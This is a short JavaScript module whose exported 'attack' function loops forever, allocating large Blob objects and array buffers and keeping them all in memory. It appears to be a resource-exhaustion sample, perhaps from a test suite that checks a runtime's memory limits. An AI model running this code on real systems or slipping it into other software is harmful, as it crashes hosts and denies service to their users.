export default async function attack() {
  const all = [];
  for (;;) {
    const blob = new Blob([new Uint8Array(1 << 20).fill(all.length), "x".repeat(1 << 20)]);
    all.push(blob, await blob.slice(0, 1 << 20).arrayBuffer());
  }
}
